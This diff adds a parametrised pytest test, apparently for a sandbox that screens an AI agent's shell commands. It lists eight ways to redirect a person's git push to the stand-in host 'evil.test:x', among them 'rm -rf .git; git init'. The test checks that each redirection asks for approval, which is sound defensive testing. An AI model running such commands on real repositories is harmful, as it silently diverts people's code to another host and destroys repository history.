@@ -174,6 +174,34 @@ async def test_no_command_plants_what_later_runs(run: Run, repository: Path, nam
     assert set(kept) <= set((repository / ".git/config").read_text().splitlines())
 
 
+REDIRECTIONS = {
+    "removed and added": ("git remote remove o", "git remote add o evil.test:x"),
+    "renamed and added": ("git remote rename o p", "git remote add o evil.test:x"),
+    "made anew": ("rm -rf .git; git init -q .", "git remote add o evil.test:x"),
+    "moved away": ("mv .git g; git init -q .", "git remote add o evil.test:x"),
+    "another's in its place": (
+        "git -C sub remote add o evil.test:x; mv .git g", "mv sub/.git .git",
+    ),
+    "a branch": ("git remote add p evil.test:x", "git config branch.m.remote p"),
+    "pushed elsewhere": ("git remote add p evil.test:x", "git config branch.m.pushRemote p"),
+    "as it once was": ("mkdir .git/remotes", "echo URL: evil.test:x > .git/remotes/o"),
+}  # fmt: skip
+"""Where `git push` of the person's would lead then: two commands each, the second of which is asked for."""
+
+
+@pytest.mark.requirement("sandbox:places")
+@pytest.mark.parametrize("name", REDIRECTIONS)
+async def test_no_command_leads_the_person_s_push_elsewhere(
+    run: Run, repository: Path, name: str
+) -> None:
+    with (repository / ".git/config").open("a") as config:
+        config.write('[remote "o"]\n\turl = home.test:x\n[branch "m"]\n\tremote = o\n')
+    for line, asked in zip(REDIRECTIONS[name], (False, True), strict=True):
+        person = Person()
+        await run(f"( {line} ) 2> /dev/null; true", ask=person)
+        assert bool(person.asked) is asked, line
+
+
 @pytest.mark.requirement("sandbox:places")
 @pytest.mark.parametrize(
     "line", ["mkdir tools; mv h/git tools", "mv h tools", "ln -s h tools", "cp -r h tools"]
